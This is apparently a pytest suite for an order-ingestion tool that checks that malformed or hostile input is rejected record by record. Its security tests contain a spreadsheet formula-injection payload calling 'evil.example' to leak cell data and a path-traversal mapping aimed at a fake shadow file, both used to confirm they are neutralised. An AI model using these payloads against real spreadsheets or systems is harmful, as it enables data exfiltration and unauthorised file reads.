"""Bad input loses nothing and is named (issue 12): each hostile value is one reject naming
file, record and field, the good records around it land, identically on SQLite and PostgreSQL."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from native_orders import DOUYIN, JD, TAOBAO

from orderhub.cli import main
from orderhub.connectors.ingest import SourceUnknown, ingest, read_orders
from orderhub.store import OrderStore

GOOD_NICK = "奔跑的猫咪"



def _workspace(tmp_path: Path) -> Path:
    """A workspace folder (orderhub.yaml) whose database is made on first use."""
    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    (ws / "orderhub.yaml").write_text("timezone: Asia/Shanghai\n", encoding="utf-8")
    return ws

def taobao(no: str, **changes: Any) -> dict[str, Any]:
    record = copy.deepcopy(TAOBAO)
    record.update(tid_str=no, tid=int(no) if no.isdigit() else no, buyer_nick=GOOD_NICK)
    record.update(changes)
    return record


def three_with(tmp_path: Path, bad: dict[str, Any], name: str = "t.json") -> Path:
    """Records 1 and 3 are good Taobao orders; record 2 is ``bad``."""
    path = tmp_path / name
    docs = [taobao("1000000000000000001"), bad, taobao("1000000000000000003")]
    path.write_text(json.dumps(docs, ensure_ascii=False), encoding="utf-8")
    return path


def assert_only_record_2_rejected(store: OrderStore, path: Path, field: str,
                                  reason: str) -> None:
    summary = ingest(store, [path])
    assert summary.counts() == {"new": 2, "updated": 0, "unchanged": 0, "rejected": 1}, \
        summary.rejects
    (reject,) = summary.rejects
    assert (reject.file, reject.record) == (str(path), 2)
    assert (reject.field or "").startswith(field), reject
    assert reason in reject.reason, reject.reason
    for no in ("1000000000000000001", "1000000000000000003"):
        assert store.get(f"taobao:{no}").buyer_nick == GOOD_NICK
    assert [r.reason for r in store.rejects()] == [reject.reason]
    assert json.loads(store.rejects()[0].raw)["tid_str"] == reject_no(path)


def reject_no(path: Path) -> Any:
    return json.loads(path.read_bytes().decode("utf-8", "replace"))[1]["tid_str"]


# -- 1. JSON is UTF-8 ---------------------------------------------------------------------


def test_an_invalid_byte_rejects_its_record_and_leaves_the_others_intact(
        store: OrderStore, tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    good = [json.dumps(taobao(n), ensure_ascii=False).encode()
            for n in ("1000000000000000001", "1000000000000000003")]
    bad = json.dumps(taobao("1000000000000000002", buyer_nick="@@@")).encode()
    bad = bad.replace(b"@@@", b"\xff\xfe\xfa")
    path.write_bytes(b"[" + good[0] + b"," + bad + b"," + good[1] + b"]")
    assert_only_record_2_rejected(store, path, "buyer_nick", "not text")


def test_a_gbk_line_in_json_lines_is_rejected_alone(tmp_path: Path) -> None:
    path = tmp_path / "t.jsonl"
    lines = [json.dumps(taobao("1000000000000000001"), ensure_ascii=False).encode(),
             json.dumps(taobao("1000000000000000002", receiver_name="王小明"),
                        ensure_ascii=False).encode("utf-8").replace(
                 "王小明".encode(), "王小明".encode("gbk")),
             json.dumps(taobao("1000000000000000003"), ensure_ascii=False).encode()]
    path.write_bytes(b"\n".join(lines) + b"\n")
    orders, rejects = read_orders([path])
    assert [o.buyer_nick for o in orders] == [GOOD_NICK, GOOD_NICK]
    assert [(r.record, r.field) for r in rejects] == [(2, "receiver_name")]


# -- 2. one bad value never aborts the ingest ---------------------------------------------

DEEP: Any = "x"
for _ in range(500):
    DEEP = {"a": DEEP}

BAD_VALUES = {
    "payment 9.2e16": ({"payment": 9.2e16}, "payment", "over the largest accepted"),
    "null line": ({"orders": {"order": [None]}}, "orders.order.0", "line 1 is null"),
    "text line": ({"orders": {"order": ["x", 1, None]}}, "orders.order.0", "not an object"),
    "list line": ({"orders": {"order": [[1]]}}, "orders.order.0", "not an object"),
    "500 deep": ({"extra": DEEP}, None, "nested more than 64 levels deep"),
    "year 9999 -05:00": ({"created": "9999-12-31T23:00:00-05:00"}, "created",
                         "date-time out of range"),
    "order no over 64": ({"tid_str": "9" * 70, "tid": None}, "tid_str/tid",
                         "longer than the 64 characters"),
    "buyer_nick over 128": ({"buyer_nick": "n" * 129}, "buyer_nick/buyer_open_uid",
                            "longer than the 128 characters"),
    "receiver over 256": ({"receiver_name": "名" * 257}, "receiver_name",
                          "longer than the 256 characters"),
    "NUL": ({"receiver_address": "天河路\x00385号"}, "receiver_address", "NUL character"),
}


@pytest.mark.parametrize("case", list(BAD_VALUES))
def test_one_bad_value_is_a_named_reject_on_every_database(store: OrderStore, tmp_path: Path,
                                                           case: str) -> None:
    changes, field, reason = BAD_VALUES[case]
    bad = taobao("1000000000000000002", **changes)
    assert_only_record_2_rejected(store, three_with(tmp_path, bad), field or "extra.a.a.a",
                                  reason)


def douyin(**changes: Any) -> dict[str, Any]:
    return {**copy.deepcopy(DOUYIN), "order_id": "6912345678900000002", **changes}


@pytest.mark.parametrize(("changes", "field", "reason"), [
    ({"create_time": 1e20}, "create_time", "unix time out of range"),
    ({"pay_amount": 8490.99}, "pay_amount", "not a whole number of fen"),
    ({"pay_amount": True}, "pay_amount", "not an amount in fen"),
])
def test_douyin_values_that_cannot_be_read_are_rejects(store: OrderStore, tmp_path: Path,
                                                       changes: dict[str, Any], field: str,
                                                       reason: str) -> None:
    path = tmp_path / "dy.json"
    path.write_text(json.dumps([DOUYIN, douyin(**changes)]), encoding="utf-8")
    summary = ingest(store, [path])
    assert summary.new == 1 and [(r.record, r.field) for r in summary.rejects] == [(2, field)]
    assert reason in summary.rejects[0].reason


def test_a_csv_cell_over_the_csv_limit_rejects_its_row(store: OrderStore, tmp_path: Path
                                                       ) -> None:
    from test_ingest import EXPORT_HEADER, export_row

    rows = [",".join(EXPORT_HEADER),
            export_row("4123456789012345678", "交易成功", "13912345678", "99.00"),
            export_row("4123456789012345679", "交易成功", "13912345679", "99.00").replace(
                "小明爱购物", "长" * 140_000),
            export_row("4123456789012345681", "交易成功", "13912345670", "99.00")]
    path = tmp_path / "ExportOrderList.csv"
    path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
    summary = ingest(store, [path])
    assert summary.new == 2 and [r.record for r in summary.rejects] == [3]
    assert "field larger than field limit" in summary.rejects[0].reason


@pytest.mark.parametrize("encoding", ["utf-16-le", "binary"])
def test_binary_or_bomless_utf16_csv_is_an_unreadable_file(store: OrderStore, tmp_path: Path,
                                                           encoding: str) -> None:
    from test_ingest import EXPORT_HEADER

    path = tmp_path / "orders.csv"
    if encoding == "binary":
        path.write_bytes(bytes(range(256)) * 40)
    else:
        path.write_bytes((",".join(EXPORT_HEADER) + "\r\n").encode(encoding))
    summary = ingest(store, [path])
    assert summary.exit_code == 1 and str(path) in summary.unreadable
    assert "not a text file" in summary.unreadable[str(path)]


# -- 3. no silent coercions ---------------------------------------------------------------


@pytest.mark.parametrize(("changes", "field", "reason"), [
    ({"tid_str": {"x": 1}, "tid": None}, "tid_str/tid", "got an object"),
    ({"orders": "abc"}, "orders", "expected an object of lines, got text"),
    ({"payment": "12.345"}, "payment", "more than two decimals"),
    ({"payment": "-5.00"}, "payment", "negative value -5.00"),
    ({"orders": {"order": [{**TAOBAO["orders"]["order"][0], "price": "-59.00"}]}},
     "orders.order.0.price", "negative value"),
    ({"orders": {"order": [{**TAOBAO["orders"]["order"][0], "num": 3.7}]}},
     "num", "not a whole number"),
])
def test_values_are_refused_rather_than_guessed(store: OrderStore, tmp_path: Path,
                                               changes: dict[str, Any], field: str,
                                               reason: str) -> None:
    bad = taobao("1000000000000000002", **changes)
    assert_only_record_2_rejected(store, three_with(tmp_path, bad), field, reason)


def wide(digits: str) -> str:
    """Full-width digits (１２３), as some Chinese input methods type them."""
    return "".join(chr(ord(ch) + 0xFEE0) for ch in digits)


def test_an_invisible_character_does_not_make_a_second_order(store: OrderStore,
                                                            tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    path.write_text(json.dumps([taobao("1000000000000000001"),
                                taobao("1000000000000000001\u200b"),
                                taobao("\ufeff" + wide("1000000000000000001") + "\u00a0")]),
                    encoding="utf-8")
    summary = ingest(store, [path])
    assert summary.counts() == {"new": 1, "updated": 0, "unchanged": 2, "rejected": 0}
    assert [o.platform_order_no for o in store.list()] == ["1000000000000000001"]


def test_an_xlsx_formula_without_a_saved_value_is_named(store: OrderStore, tmp_path: Path
                                                        ) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["订单号", "订单状态", "商品总价(元)", "邮费(元)", "用户实付金额(元)",
                  "订单成交时间", "商品", "收货人"])
    sheet.append(["251126-000000000000001", "待发货", 59, 0, 59, "2025-11-26 10:00:00",
                  "鲜牛奶1L", "赵六"])
    sheet.append(["251126-000000000000002", "待发货", 59, 0, "=C3+D3", "2025-11-26 11:00:00",
                  "鲜牛奶1L", "钱七"])
    path = tmp_path / "pdd-orders.xlsx"
    book.save(path)  # openpyxl saves formulas without computed values
    summary = ingest(store, [path])
    assert summary.new == 1
    assert [(r.record, r.field) for r in summary.rejects] == [(3, "用户实付金额(元)")]
    assert "formula" in summary.rejects[0].reason


# -- 6. a 10 MB value is cut, its position kept -------------------------------------------


def test_a_huge_rejected_value_is_cut_in_stderr_and_the_rejects_table(tmp_path: Path) -> None:
    huge = "9" * 10_000_000
    path = three_with(tmp_path, taobao("1000000000000000002", payment=huge + "x"))
    ws = _workspace(tmp_path)
    result = CliRunner().invoke(main, ["-w", str(ws), "ingest", str(path)])
    assert result.exit_code == 10, result.output
    assert len(result.stderr) < 5_000 and "record 2" in result.stderr
    listed = CliRunner().invoke(main, ["-w", str(ws), "rejects", "--format", "json"])
    (row,) = [json.loads(line) for line in listed.stdout.splitlines()]
    assert row["record"] == 2 and row["field"] == "payment"
    assert len(row["reason"]) <= 1000 and len(row["raw"]) <= 65536
    assert "10,000,001 characters" in row["reason"] and "cut" in row["raw"]


# -- 16. exit codes ----------------------------------------------------------------------


def test_exit_codes_of_files_that_are_not_orders(tmp_path: Path) -> None:
    runner = CliRunner()
    ws = ["-w", str(_workspace(tmp_path))]
    png = tmp_path / "photo.png"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(200))
    result = runner.invoke(main, [*ws, "ingest", str(png)])
    assert result.exit_code == 1 and "unsupported file type .png" in result.stderr
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    result = runner.invoke(main, [*ws, "ingest", str(empty), "--format", "json"])
    assert result.exit_code == 1 and "the file is empty" in result.stderr
    assert json.loads(result.stdout)["rejected"] == 1
    result = runner.invoke(main, [*ws, "ingest", str(tmp_path / "nope.json")])
    assert result.exit_code == 4 and "no such file or folder" in result.stderr


def test_one_unrecognized_file_in_a_folder_does_not_stop_the_others(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.json").write_text(json.dumps([TAOBAO]), encoding="utf-8")
    (folder / "b.json").write_text(json.dumps([{"foo": 1}]), encoding="utf-8")
    (folder / "c.json").write_text(json.dumps([JD]), encoding="utf-8")
    result = CliRunner().invoke(main, ["-w", str(_workspace(tmp_path)), "ingest", str(folder),
                                       "--format", "json"])
    assert result.exit_code == 2
    assert json.loads(result.stdout) == {"new": 2, "updated": 0, "unchanged": 0, "rejected": 1}
    assert result.stderr.count("b.json") == 1 and "--source" in result.stderr


def test_a_forced_source_that_does_not_fit_is_refused(tmp_path: Path) -> None:
    plain = tmp_path / "t.json"
    plain.write_text(json.dumps([TAOBAO]), encoding="utf-8")
    envelope = tmp_path / "e.json"
    envelope.write_text(json.dumps({"trades_sold_increment_get_response": {
        "trades": {"trade": [TAOBAO]}}}), encoding="utf-8")
    for path, said in ((plain, "look like taobao, not jd"), (envelope, "taobao API response")):
        with pytest.raises(SourceUnknown, match=said):
            read_orders([path], source="jd")
    orders, _ = read_orders([plain], source="taobao")
    assert len(orders) == 1


# -- 4. data is never markup -------------------------------------------------------------


def test_markup_in_data_is_shown_as_typed(tmp_path: Path) -> None:
    runner = CliRunner()
    ws = ["-w", str(_workspace(tmp_path))]
    path = three_with(tmp_path, taobao("1000000000000000002", payment="[/red]"))
    tricky = taobao("1000000000000000004", receiver_name="[bold red]x[/]",
                    buyer_nick="[/]", receiver_address=":smile: 天河路")
    (tmp_path / "x.json").write_text(json.dumps([tricky]), encoding="utf-8")
    result = runner.invoke(main, [*ws, "ingest", str(path), str(tmp_path / "x.json"),
                                  "--format", "json"])
    assert result.exit_code == 10, result.output
    assert json.loads(result.stdout)["new"] == 3
    assert "not an amount: '[/red]'" in result.stderr
    listed = runner.invoke(main, [*ws, "orders", "list"], color=True)
    assert listed.exit_code == 0, listed.output
    assert "[bold red]x[/]" in listed.stdout and "\x1b[1;31m" not in listed.stdout
    shown = runner.invoke(main, [*ws, "orders", "show", "taobao:1000000000000000004"])
    assert shown.exit_code == 0 and "[bold red]x[/]" in shown.stdout
    assert ":smile: 天河路" in shown.stdout
    rejects = runner.invoke(main, [*ws, "rejects"])
    assert rejects.exit_code == 0 and "[/red]" in rejects.stdout


def test_stock_quantities_are_whole_and_not_negative(tmp_path: Path) -> None:
    from orderhub.engine.routing.stock import read_stock_csv

    path = tmp_path / "stock.csv"
    path.write_text("warehouse,sku,on_hand,reserved\nGZ,A,3.7,0\nGZ,B,-5,0\nGZ,C,4,-1\n"
                    "GZ,D,1e20,0\nGZ,E,12.0,\n", encoding="utf-8")
    rows, bad = read_stock_csv(path)
    assert rows == [("GZ", "E", 12, 0)]
    assert [(b.record, b.field) for b in bad] == [(2, "on_hand"), (3, "on_hand"),
                                                  (4, "reserved"), (5, "on_hand")]
    assert "3.7" in bad[0].reason


# -- 5. spreadsheet formula injection ----------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'


def test_report_cells_from_data_never_become_formulas(tmp_path: Path) -> None:
    import csv

    from openpyxl import load_workbook
    from test_finance_reports import BILLS, DATA

    from orderhub.finance import Period, import_settlements, reconcile, write_reports
    from orderhub.model import Order

    store = OrderStore.open(f"sqlite:///{tmp_path / 'orderhub.db'}")
    docs = json.loads((DATA / "orders.json").read_text())
    for doc in docs:
        doc["shop_id"] = EVIL
    store.upsert([Order.model_validate(o) for o in docs])
    import_settlements(store, BILLS)
    files = write_reports(reconcile(store, Period.month("2025-11")), tmp_path / "out")
    book = load_workbook(files.xlsx)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + EVIL for c in cells)
    assert any(isinstance(c.value, float) and c.value < 0 for c in cells)  # still numbers
    with files.orders_csv.open(encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert {row[1] for row in rows[1:]} == {"'" + EVIL}
    with files.differences_csv.open(encoding="utf-8-sig") as fh:
        text = fh.read()
    assert "-159.00" in text and "'-159.00" not in text


def test_safe_cell_follows_owasp() -> None:
    from orderhub.sheets import safe_cell

    assert [safe_cell(v) for v in ("=1+2", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=x")] == [
        "'=1+2", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\r=x"]
    assert [safe_cell(v) for v in ("-12.50", "+86", "-", "王小明", -3, None)] == [
        "-12.50", "+86", "-", "王小明", -3, None]


def test_migrate_rejects_file_is_neutralized(tmp_path: Path) -> None:
    import csv

    from orderhub.migrate.convert import RowReject
    from orderhub.migrate.importer import write_rejects

    path = tmp_path / "legacy.rejects.csv"
    write_rejects(path, ("订单号", "买家"), [RowReject(2, "bad", None, None, ("1", EVIL))])
    with path.open(encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][:2] == ["1", "'" + EVIL]


# -- 9. a mapping reads nothing outside the workspace ------------------------------------

EVIL_MAPPING = """\
name: evil
platform: taobao
detect: {keys: [evil_no]}
order:
  platform_order_no: {from: evil_no, as: order_no, required: true}
  created_at: {from: created, as: datetime, required: true}
status: {from: status, table: TABLE}
"""


@pytest.mark.parametrize("how", ["ingest", "migrate"])
def test_a_mapping_cannot_read_a_file_outside_the_workspace(tmp_path: Path, how: str) -> None:
    secret = tmp_path / "secret" / "shadow.csv"
    secret.parent.mkdir()
    secret.write_text("root-hash-XYZ,$6$secret\ndaemon-XYZ,*\n", encoding="utf-8")
    ws = _workspace(tmp_path)
    (ws / "mappings").mkdir(parents=True)
    mapping = ws / "mappings" / "evil.yaml"
    mapping.write_text(EVIL_MAPPING.replace("TABLE", "../../secret/shadow.csv"),
                       encoding="utf-8")
    orders = tmp_path / "orders.json"
    orders.write_text(json.dumps([TAOBAO]), encoding="utf-8")
    args = ["ingest", str(orders)] if how == "ingest" else \
        ["migrate", "run", str(orders), "--mapping", str(mapping)]
    result = CliRunner().invoke(main, ["-w", str(ws), *args])
    assert result.exit_code == 1, result.output
    assert "outside the mapping's folder and the workspace" in result.stderr
    assert "evil.yaml:7" in result.stderr
    assert "root-hash-XYZ" not in result.output


def test_a_status_table_beside_the_mapping_or_in_the_workspace_is_read(tmp_path: Path) -> None:
    from orderhub.connectors.mapping import mappings

    ws = _workspace(tmp_path)
    (ws / "mappings").mkdir(parents=True)
    (ws / "tables").mkdir()
    (ws / "tables" / "status.csv").write_text("旧状态,新状态\n已付款,paid\n", encoding="utf-8")
    (ws / "mappings" / "evil.yaml").write_text(
        EVIL_MAPPING.replace("TABLE", "../tables/status.csv"), encoding="utf-8")
    assert mappings([ws / "mappings"])["evil"].spec.status.map == {"已付款": "paid"}


# -- 2. (also) migrate run and settlements import ----------------------------------------

LEGACY = Path(__file__).resolve().parent.parent / "examples" / "legacy"


def test_migrate_overflow_is_a_rejected_row_and_the_batch_finishes(store: OrderStore,
                                                                   tmp_path: Path) -> None:
    import csv
    import io
    import shutil

    from orderhub.migrate import load_migration_mapping, run
    from orderhub.migrate.batches import list_batches

    for name in ("status-map.xlsx", "mapping.yaml"):
        shutil.copy(LEGACY / name, tmp_path / name)
    rows = list(csv.reader(io.StringIO((LEGACY / "legacy-orders.csv").read_bytes()
                                       .decode("gbk"))))
    column = rows[0].index("实付金额")
    rows[1][column] = "92000000000000000"
    rows[2][2] = "名" * 100  # 店铺: the shop id column holds 64 characters
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    path = tmp_path / "legacy-orders.csv"
    path.write_bytes(out.getvalue().encode("gbk"))
    report = run(store, path, load_migration_mapping(tmp_path / "mapping.yaml"))
    assert [(r.row, r.column) for r in report.rejects[:2]] == [(2, "实付金额"), (3, "店铺")]
    assert report.counts()["new"] == 283
    assert [b.state for b in list_batches(store)] == ["done"]


def test_a_migrate_run_that_fails_does_not_stay_running(store: OrderStore, tmp_path: Path
                                                        ) -> None:
    from orderhub.errors import RecordError
    from orderhub.migrate import load_migration_mapping, run
    from orderhub.migrate.batches import list_batches

    path = tmp_path / "broken.csv"
    path.write_bytes(bytes(range(256)) * 20)
    with pytest.raises(RecordError, match="not a text file"):
        run(store, path, load_migration_mapping(LEGACY / "mapping.yaml"))
    assert [b.state for b in list_batches(store)] == ["failed"]


def test_settlements_import_exit_codes_and_one_mention_of_the_path(tmp_path: Path) -> None:
    runner = CliRunner()
    ws = ["-w", str(_workspace(tmp_path))]
    mystery = tmp_path / "mystery.csv"
    mystery.write_text("a,b\n1,2\n", encoding="utf-8")
    result = runner.invoke(main, [*ws, "settlements", "import", str(mystery)])
    assert result.exit_code == 2, result.output
    assert result.stderr.count(str(mystery)) == 1 and "--source" in result.stderr
    result = runner.invoke(main, [*ws, "settlements", "import", str(tmp_path / "none.csv")])
    assert result.exit_code == 4 and "no such file or folder" in result.stderr


def test_a_settlement_amount_out_of_range_is_a_named_reject(store: OrderStore,
                                                           tmp_path: Path) -> None:
    from test_finance_reports import DATA

    from orderhub.finance import import_settlements

    lines = (DATA / "jd-settle-2025-11.csv").read_bytes().decode("gbk").splitlines()
    lines[1] = lines[1].replace("299.00", "92000000000000000")
    path = tmp_path / "jd-settle.csv"
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("gbk"))
    summary = import_settlements(store, [path])
    assert [r.record for r in summary.rejects] == [2]
    assert "over the largest accepted" in summary.rejects[0].reason
    assert summary.new == len(lines) - 2


def test_integers_beyond_64_bits_keep_their_digits(store: OrderStore, tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    path.write_text('[' + json.dumps(taobao("1000000000000000001"))[:-1]
                    + ', "extra": 461278523493827920003073}]', encoding="utf-8")
    assert ingest(store, [path]).new == 1
    assert store.get("taobao:1000000000000000001").raw["extra"] == 461278523493827920003073
    path.write_text("[" + json.dumps(taobao("1000000000000000002"))[:-1]
                    + ', "extra": -9500000000000000001}]', encoding="utf-8")
    assert ingest(store, [path]).new == 1
    assert store.get("taobao:1000000000000000002").raw["extra"] == -9500000000000000001
